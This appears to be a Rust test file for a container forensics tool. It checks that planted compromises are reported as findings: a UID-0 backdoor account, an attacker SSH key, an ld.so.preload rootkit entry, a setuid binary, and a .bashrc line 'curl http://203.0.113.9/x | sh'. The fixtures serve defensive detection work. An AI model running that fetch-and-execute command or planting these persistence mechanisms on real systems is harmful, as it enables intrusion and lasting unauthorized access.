use super::*;
use crate::diff::{ContainerFs, DiffOptions, WritableLayer, diff};
use forensic_bundle::digest::Digest;

const T0: i64 = 1_700_000_000_000_000_000;
const T1: i64 = 1_800_000_000_000_000_000;

fn entry(path: &str, kind: Kind, mode: u32, content: Option<&str>, mtime: i64) -> FileEntry {
    FileEntry {
        path: path.into(),
        kind,
        mode,
        uid: 0,
        gid: 0,
        size: content.map_or(0, |c| c.len() as u64),
        mtime_ns: Some(mtime),
        sha256: content.map(|c| Digest::of(c.as_bytes())),
        link_target: None,
    }
}

fn dir(p: &str) -> FileEntry {
    entry(p, Kind::Dir, 0o755, None, T0)
}

fn file(p: &str, mode: u32, content: &str, mtime: i64) -> FileEntry {
    entry(p, Kind::File, mode, Some(content), mtime)
}

fn index(v: Vec<FileEntry>) -> FileIndex {
    v.into_iter().map(|e| (e.path.clone(), e)).collect()
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n";
const PASSWD_NOW: &str =
    "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\nbackdoor:x:0:0::/root:/bin/sh\n";

fn image() -> FileIndex {
    index(vec![
        dir("/"),
        dir("/bin"),
        file("/bin/busybox", 0o755, "busybox", T0),
        entry("/bin/id", Kind::Symlink, 0o777, None, T0),
        entry("/bin/ps", Kind::Symlink, 0o777, None, T0),
        dir("/etc"),
        file("/etc/passwd", 0o644, PASSWD, T0),
        file("/etc/ld.so.preload", 0o644, "", T0),
        dir("/etc/cron.d"),
        file("/etc/cron.d/old", 0o644, "0 * * * * root true\n", T0),
        dir("/root"),
        file("/root/.bashrc", 0o644, "PS1='# '\n", T0),
        dir("/tmp"),
        dir("/usr"),
        dir("/usr/bin"),
        file("/usr/bin/report", 0o755, "#!/bin/sh\necho report\n", T0),
        file("/usr/bin/su", 0o755, "su", T0),
        dir("/usr/lib"),
        file("/usr/lib/libc.so", 0o644, "libc", T0),
    ])
}

fn container() -> ContainerFs {
    let mut files = image();
    files.remove("/etc/cron.d/old");
    files.remove("/bin/ps");
    let mut su = file("/usr/bin/su", 0o4755, "su", T0);
    su.uid = 0;
    let mut id = file("/bin/id", 0o755, "evil id", T1);
    id.link_target = None;
    for e in [
        dir("/root/.ssh"),
        file(
            "/root/.ssh/authorized_keys",
            0o600,
            "ssh-ed25519 AAAAC3 attacker@evil\n",
            T1,
        ),
        file("/etc/passwd", 0o644, PASSWD_NOW, T1),
        file("/etc/ld.so.preload", 0o644, "/tmp/.x/libhide.so\n", T1),
        file("/tmp/dropper.sh", 0o755, "#!/bin/sh\nwget x\n", T1),
        file("/tmp/notes.txt", 0o644, "hello\n", T1),
        file("/tmp/sgid", 0o2755, "x", T1),
        file("/usr/bin/report", 0o755, "#!/bin/sh\necho pwned\n", T0),
        file("/usr/lib/libc.so", 0o644, "libX", T0),
        file("/usr/bin/newtool", 0o755, "tool", T1),
        file("/root/.bashrc", 0o644, "PS1='# '\ncurl http://203.0.113.9/x | sh\n", T1),
        su,
        id,
    ] {
        files.insert(e.path.clone(), e);
    }
    let entries = [
        "/",
        "/root",
        "/root/.ssh",
        "/root/.ssh/authorized_keys",
        "/etc",
        "/etc/passwd",
        "/etc/ld.so.preload",
        "/etc/cron.d",
        "/tmp",
        "/tmp/dropper.sh",
        "/tmp/notes.txt",
        "/tmp/sgid",
        "/usr",
        "/usr/bin",
        "/usr/bin/su",
        "/usr/bin/newtool",
        "/root/.bashrc",
        "/bin",
        "/bin/id",
    ];
    ContainerFs {
        files,
        unexplored: BTreeMap::new(),
        writable: Some(WritableLayer {
            entries: entries.iter().map(|s| s.to_string()).collect(),
            deleted: ["/etc/cron.d/old".to_string(), "/bin/ps".to_string()].into(),
            opaque: BTreeSet::new(),
            ..WritableLayer::default()
        }),
    }
}

/// `(severity, kind, path)` of every finding, in output order; each severity one its id allows
/// (as `docs/findings.md` lists it).
fn summary(f: &[Finding]) -> Vec<(Severity, &str, &str)> {
    for x in f {
        assert!(x.kind.allows(x.severity), "{} with severity {}", x.kind, x.severity);
    }
    f.iter()
        .map(|f| (f.severity, f.kind.as_str(), f.path.as_deref().unwrap_or_default()))
        .collect()
}

fn run(image_contents: &Contents) -> Vec<Finding> {
    let image = image();
    let c = container();
    let changes = diff(&image, &c, &DiffOptions::default()).changes;
    let wanted = content_wanted(&changes);
    let contents: Contents = wanted
        .iter()
        .filter_map(|p| {
            let e = c.files.get(p)?;
            let text = match p.as_str() {
                "/etc/passwd" => PASSWD_NOW,
                "/etc/ld.so.preload" => "/tmp/.x/libhide.so\n",
                "/root/.ssh/authorized_keys" => "ssh-ed25519 AAAAC3 attacker@evil\n",
                "/root/.bashrc" => "PS1='# '\ncurl http://203.0.113.9/x | sh\n",
                _ => return None,
            };
            assert_eq!(e.sha256, Some(Digest::of(text.as_bytes())));
            Some((p.clone(), text.as_bytes().to_vec()))
        })
        .collect();
    let sources: BTreeMap<String, String> = contents
        .keys()
        .map(|p| (p.clone(), format!("5-filesystem/upper{p}")))
        .collect();
    let image_sources: BTreeMap<String, String> = image_contents
        .keys()
        .map(|p| (p.clone(), format!("image:{p}")))
        .collect();
    findings(
        &changes,
        &Side {
            index_source: "image",
            index: &image,
            contents: image_contents,
            sources: &image_sources,
        },
        &Side {
            index_source: "5-filesystem/tree-index.jsonl",
            index: &c.files,
            contents: &contents,
            sources: &sources,
        },
    )
}

#[test]
fn each_planted_change_is_a_finding() {
    let image_contents: Contents = [
        ("/etc/passwd".to_string(), PASSWD.as_bytes().to_vec()),
        ("/root/.bashrc".to_string(), b"PS1='# '\n".to_vec()),
    ]
    .into();
    let f = run(&image_contents);
    assert_eq!(
        summary(&f),
        [
            (Severity::Critical, "persistence-ld-preload", "/etc/ld.so.preload"),
            (Severity::Critical, "uid0-user-added", "/etc/passwd"),
            (Severity::Critical, "setuid-added", "/usr/bin/su"),
            (Severity::High, "binary-replaced", "/bin/id"),
            (Severity::High, "system-binary-deleted", "/bin/ps"),
            (Severity::High, "persistence-ssh-key", "/root/.ssh/authorized_keys"),
            (Severity::High, "tmp-executable", "/tmp/dropper.sh"),
            (Severity::High, "setgid-added", "/tmp/sgid"),
            (Severity::High, "tmp-executable", "/tmp/sgid"),
            (Severity::High, "binary-replaced", "/usr/bin/report"),
            (Severity::High, "lower-layer-changed", "/usr/bin/report"),
            (Severity::High, "binary-replaced", "/usr/lib/libc.so"),
            (Severity::High, "lower-layer-changed", "/usr/lib/libc.so"),
            (Severity::Medium, "persistence-shell-profile", "/root/.bashrc"),
            (Severity::Medium, "executable-added", "/usr/bin/newtool"),
            (Severity::Low, "persistence-cron", "/etc/cron.d/old"),
        ]
    );
    let by = |kind: &str, path: &str| {
        f.iter()
            .find(|x| x.kind.as_str() == kind && x.path.as_deref() == Some(path))
            .unwrap()
    };
    let preload = by("persistence-ld-preload", "/etc/ld.so.preload");
    assert_eq!(
        preload.message,
        "the dynamic linker's preload list /etc/ld.so.preload was changed; new lines: /tmp/.x/libhide.so"
    );
    assert_eq!(
        preload.evidence,
        [
            format!(
                "5-filesystem/tree-index.jsonl: /etc/ld.so.preload: file 0644 0:0 19 bytes sha256 {}",
                Digest::of(b"/tmp/.x/libhide.so\n")
            ),
            "5-filesystem/upper/etc/ld.so.preload".to_string(),
            format!(
                "image: /etc/ld.so.preload: file 0644 0:0 0 bytes sha256 {}",
                Digest::of(b"")
            ),
        ]
    );
    assert_eq!(
        by("persistence-shell-profile", "/root/.bashrc").message,
        "shell start-up file /root/.bashrc was changed; new lines: curl http://203.0.113.9/x | sh"
    );
    assert_eq!(
        by("persistence-ssh-key", "/root/.ssh/authorized_keys").message,
        "SSH authorized keys file /root/.ssh/authorized_keys was added; new lines: ssh-ed25519 AAAAC3 attacker@evil"
    );
    assert_eq!(
        by("binary-replaced", "/bin/id").message,
        "program file /bin/id differs from the image's (SHA-256); it was a symlink"
    );
    assert_eq!(
        by("system-binary-deleted", "/bin/ps").message,
        "program or library /bin/ps (symlink of the image) was deleted"
    );
    assert_eq!(
        by("setuid-added", "/usr/bin/su").message,
        "/usr/bin/su is setuid (mode 4755, owner 0:0) and the image's is not"
    );
    let uid0 = by("uid0-user-added", "/etc/passwd");
    assert_eq!(
        uid0.evidence.get(1..),
        Some(
            &[
                "5-filesystem/upper/etc/passwd".to_string(),
                format!(
                    "image: /etc/passwd: file 0644 0:0 {} bytes sha256 {}",
                    PASSWD.len(),
                    Digest::of(PASSWD.as_bytes())
                ),
                "image:/etc/passwd".to_string(),
            ][..]
        )
    );
    assert!(
        by("lower-layer-changed", "/usr/bin/report")
            .message
            .starts_with("/usr/bin/report differs from the image (content), but the container's writable layer")
    );
}

#[test]
fn without_image_contents_the_account_findings_fall_back() {
    let f = run(&Contents::new());
    let accounts: Vec<(Severity, &str, &str)> = summary(&f).into_iter().filter(|s| s.2 == "/etc/passwd").collect();
    assert_eq!(
        accounts,
        [
            (Severity::Critical, "uid0-user", "/etc/passwd"),
            (Severity::High, "account-file-changed", "/etc/passwd"),
        ]
    );
    assert_eq!(
        f.iter()
            .find(|x| x.kind == FindingId::PersistenceShellProfile)
            .unwrap()
            .message,
        "shell start-up file /root/.bashrc was changed; new lines: PS1='# ' | curl http://203.0.113.9/x | sh"
    );
}

#[test]
fn persistence_points_are_recognised() {
    let kind = |p: &str| persistence(p).map(|x| x.0.as_str());
    assert_eq!(kind("/etc/ld.so.preload"), Some("persistence-ld-preload"));
    assert_eq!(kind("/var/spool/cron/crontabs/root"), Some("persistence-cron"));
    assert_eq!(kind("/etc/crontab"), Some("persistence-cron"));
    assert_eq!(kind("/etc/cron.daily/logrotate"), Some("persistence-cron"));
    assert_eq!(kind("/home/app/.ssh/authorized_keys"), Some("persistence-ssh-key"));
    assert_eq!(kind("/root/.ssh/authorized_keys2"), Some("persistence-ssh-key"));
    assert_eq!(kind("/etc/sudoers.d/90-x"), Some("persistence-sudoers"));
    assert_eq!(kind("/etc/profile.d/x.sh"), Some("persistence-shell-profile"));
    assert_eq!(kind("/home/app/.profile"), Some("persistence-shell-profile"));
    assert_eq!(kind("/home/app/sub/.profile"), None);
    assert_eq!(kind("/etc/systemd/system/evil.service"), Some("persistence-init"));
    assert_eq!(kind("/etc/rc3.d/S99x"), Some("persistence-init"));
    assert_eq!(kind("/etc/rc.local"), Some("persistence-init"));
    assert_eq!(kind("/root/.config/systemd/user/x.service"), Some("persistence-init"));
    assert_eq!(kind("/etc/ssh/sshd_config"), Some("persistence-sshd-config"));
    assert_eq!(kind("/etc/motd"), None);
    assert_eq!(kind("/etc/cron.d"), None);
    assert!(in_binary_dir("/usr/local/sbin/x") && in_binary_dir("/lib64/ld.so") && !in_binary_dir("/bin"));
}

#[test]
fn new_lines_are_bounded_and_escaped() {
    let now: String = (0..20).map(|i| format!("line {i}\n")).collect();
    let lines = new_lines(Some(b"line 0\nline 1\n"), now.as_bytes());
    assert_eq!(lines.len(), 10);
    assert_eq!(lines.first().map(String::as_str), Some("line 2"));
    assert_eq!(new_lines(None, b"# comment\n\nx\x1by\n"), ["x\\u{1b}y"]);
    assert_eq!(new_lines(None, "a".repeat(300).as_bytes())[0].len(), 200);
}

/// Docker's rules: bytes changed with size and time put back is not in the change list, but a
/// `content-changed-metadata-kept` finding with both sides' entries as evidence.
#[test]
fn a_change_docker_cannot_see_is_a_finding() {
    let image = index(vec![dir("/"), dir("/usr"), file("/usr/lib/libc.so", 0o644, "libc", T0)]);
    let mut files = image.clone();
    files.insert("/usr/lib/libc.so".into(), file("/usr/lib/libc.so", 0o644, "evil", T0));
    let c = ContainerFs {
        files,
        ..ContainerFs::default()
    };
    let d = diff(&image, &c, &DiffOptions::docker(false));
    assert!(d.changes.is_empty());
    let none = Contents::new();
    let sources = BTreeMap::from([(
        "/usr/lib/libc.so".to_string(),
        "5-filesystem/upper/usr/lib/libc.so".to_string(),
    )]);
    let no_sources = BTreeMap::new();
    let side = |index_source, index, sources| Side {
        index_source,
        index,
        contents: &none,
        sources,
    };
    let f = unlisted_findings(
        &d.unlisted,
        Rules::Docker,
        &side("9-image/layers", &image, &no_sources),
        &side("5-filesystem/tree-index.jsonl", &c.files, &sources),
    );
    assert_eq!(f.len(), 1);
    assert_eq!(
        (f[0].severity, f[0].kind, f[0].path.as_deref()),
        (
            Severity::High,
            FindingId::ContentChangedMetadataKept,
            Some("/usr/lib/libc.so")
        )
    );
    assert_eq!(
        f[0].message,
        "/usr/lib/libc.so: the content (SHA-256) differs from the image's while size and modification time are the image's; `docker diff` cannot show this change, so it is not in the change list (listed with --all)"
    );
    assert_eq!(
        f[0].evidence,
        [
            format!(
                "5-filesystem/tree-index.jsonl: /usr/lib/libc.so: file 0644 0:0 4 bytes sha256 {}",
                Digest::of(b"evil").hex()
            ),
            "5-filesystem/upper/usr/lib/libc.so".to_string(),
            format!(
                "9-image/layers: /usr/lib/libc.so: file 0644 0:0 4 bytes sha256 {}",
                Digest::of(b"libc").hex()
            ),
        ]
    );
    // And the content findings see it too: a library whose content differs.
    let all = findings(
        &d.unlisted,
        &side("9-image/layers", &image, &no_sources),
        &side("5-filesystem/tree-index.jsonl", &c.files, &sources),
    );
    assert_eq!(summary(&all), [(Severity::High, "binary-replaced", "/usr/lib/libc.so")]);
}
